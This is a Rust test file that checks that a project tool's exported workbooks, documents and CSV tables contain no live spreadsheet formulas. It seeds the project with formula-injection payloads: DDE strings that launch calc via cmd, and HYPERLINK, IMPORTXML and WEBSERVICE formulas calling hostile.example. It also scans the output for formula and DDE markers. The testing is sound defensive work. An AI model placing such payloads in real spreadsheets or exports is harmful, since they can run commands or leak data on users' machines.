//! What a spreadsheet would work out in the workbooks and tables that we write: nothing.

use std::{
    collections::BTreeMap,
    fs,
    path::{Path, PathBuf},
};

use base64::{Engine as _, engine::general_purpose::STANDARD};

use crate::{
    documents::parts,
    figures::measured,
    places::{folder, said, tenzij},
};

/// Texts that a spreadsheet works out, or that make it start something.
const FORMULAS: [&str; 8] = [
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://hostile.example/\",\"klik\")",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(\"http://hostile.example/\",\"//a\")",
    "=WEBSERVICE(\"http://hostile.example/\")",
];

fn formula(at: usize) -> &'static str {
    FORMULAS[at % FORMULAS.len()]
}

fn quoted(text: &str) -> String {
    format!("\"{}\"", text.replace('"', "\"\""))
}

fn does(root: &Path, arguments: &[&str]) {
    let done = tenzij(root, arguments);
    assert_eq!(done.status.code(), Some(0), "{arguments:?}: {}", said(&done));
}

/// A project whose every text is one of them, with reply workbooks and proposals.
fn filled(name: &str) -> PathBuf {
    let root = folder(name);
    let parties = FORMULAS[2..6].join(",");
    does(
        &root,
        &[
            "init",
            "regio",
            "--title",
            "=1+1",
            "--quarter",
            "2026K3",
            &format!("--parties={parties}"),
        ],
    );
    let regio = root.join("regio");
    let rows = |head: &str, row: &dyn Fn(usize) -> String| {
        let rows: String = (0..FORMULAS.len()).map(|it| row(it) + "\n").collect();
        format!("{head}\n{rows}")
    };
    let [a, b, c] = [0, 3, 5].map(|shift| move |it: usize| quoted(formula(it + shift)));
    let tables = [
        ("parties", rows("id,name,kind", &|it| format!("p{it},{},municipality", a(it)))),
        ("portfolios", rows("id,name", &|it| format!("f{it},{}", b(it)))),
        (
            "agreements",
            rows("id,decided_on,portfolio,kind,title,text,entitled,source", &|it| {
                format!("a{it},2025-01-10,f{it},deliver,{},{},all,{}", a(it), b(it), c(it))
            }),
        ),
        (
            "positions",
            rows("agreement,party,stance,condition,interest,quote,source", &|it| {
                format!("a{it},p{it},yes_provided,{},,{},{}", a(it), b(it), c(it))
            }),
        ),
        (
            "commitments",
            rows("id,agreement,party,description,due_on", &|it| {
                format!("c{it},a{it},p{it},{},2026-01-01", b(it))
            }),
        ),
        (
            "evidence",
            rows("id,commitment,observation,occurred_on,kind,status,source", &|it| {
                format!("e{it},c{it},{},2026-02-01,status,running,{}", a(it), b(it))
            }),
        ),
    ];
    for (name, text) in tables {
        fs::write(regio.join(format!("invoer/{name}.csv")), text).unwrap();
    }
    does(&regio, &["ingest", "--on", "2026-10-01"]);
    does(&regio, &["replies", "make", "--on", "2026-10-02"]);
    let row = |it: usize| {
        let text = formula(it).replace('|', "!");
        format!("| {text} | {text} | unaniem | {text} | 1-6-2027 |\n")
    };
    let minutes: String = (0..FORMULAS.len()).map(row).collect();
    let minutes =
        format!("| Nr | Besluit | Instemming | Wie | Termijn |\n|---|---|---|---|---|\n{minutes}");
    fs::write(regio.join("verslag-2026-09-18.md"), minutes).unwrap();
    for form in ["xlsx", "ods", "csv"] {
        does(&regio, &["read", "verslag-2026-09-18.md", "-o", &format!("voorstel.{form}")]);
    }
    does(&regio, &["report", "--known-on", "2026-10-02", "-o", "rapport.html"]);
    regio
}

/// The files under a folder.
fn under(folder: &Path) -> Vec<PathBuf> {
    let mut all = Vec::new();
    for entry in fs::read_dir(folder).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() { all.extend(under(&path)) } else { all.push(path) }
    }
    all
}

fn has_extension(path: &Path, extension: &str) -> bool {
    path.extension().is_some_and(|it| it == extension)
}

/// Whether a spreadsheet would work a cell of a table out.
fn is_worked_out(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

/// Number of cells of a table that would be worked out, and of those that have a formula as a text.
fn cells(text: &str, delimiter: u8) -> (usize, usize) {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|it| it.unwrap().iter().map(str::to_owned).collect::<Vec<String>>())
        .collect();
    let n_run = cells.iter().filter(|it| is_worked_out(it)).count();
    let n_text = cells.iter().filter(|it| it.strip_prefix('\'').is_some_and(is_worked_out)).count();
    (n_run, n_text)
}

#[test]
fn no_workbook_or_table_that_we_write_works_anything_out() {
    let regio = filled("formulas-books");
    let mut n_books = 0;
    let (mut n_formulas, mut n_texts) = (BTreeMap::new(), 0);
    for path in under(&regio) {
        if !["xlsx", "ods", "docx"].iter().any(|it| has_extension(&path, it)) {
            continue;
        }
        n_books += 1;
        for (part, content) in parts(&fs::read(&path).unwrap()) {
            let text = String::from_utf8_lossy(&content).into_owned();
            // A cell's formula, an external or DDE link, a field of a letter.
            let marks = [
                "<f>",
                "<f ",
                "table:formula=",
                "<ddeLink",
                "table:dde-link",
                "w:instrText",
                "externalLink",
            ];
            let n: usize = marks.iter().map(|it| text.matches(it).count()).sum();
            if 0 < n {
                n_formulas.insert(format!("{} {part}", path.display()), n);
            }
            n_texts += ["cmd|", "cmd!", "HYPERLINK(", "SUM(1+1)"]
                .iter()
                .map(|it| text.matches(it).count())
                .sum::<usize>();
        }
    }
    assert_eq!(n_formulas, BTreeMap::new());
    // That the texts are there at all shows that this test could have found them.
    assert!(30 < n_texts && 10 < n_books, "{n_texts} in {n_books}");
    measured("P7", "workbooks and letters written", n_books);
    measured("P7", "formula cells in workbooks written", n_formulas.len());
    measured("P7", "texts of formulas that stand in them as texts", n_texts);
}

#[test]
fn no_table_that_people_open_in_a_spreadsheet_works_anything_out() {
    let regio = filled("formulas-tables");
    let table = fs::read_to_string(regio.join("voorstel.csv")).unwrap();
    let (mut n_run, mut n_text) = cells(table.trim_start_matches('\u{feff}'), b';');
    let page = fs::read_to_string(regio.join("rapport.html")).unwrap();
    let links: Vec<&str> = page.split("data:text/csv;charset=utf-8;base64,").skip(1).collect();
    assert!(2 < links.len());
    for link in &links {
        let bytes = STANDARD.decode(link.split('"').next().unwrap()).unwrap();
        let (run, text) = cells(std::str::from_utf8(&bytes).unwrap(), b',');
        (n_run, n_text) = (n_run + run, n_text + text);
    }
    assert!(10 < n_text, "{n_text}");
    measured("P7", "cells worked out in the tables of the report and of proposals", n_run);
    measured("P7", "cells of those tables with an apostrophe before a formula", n_text);
    assert_eq!(n_run, 0);
}
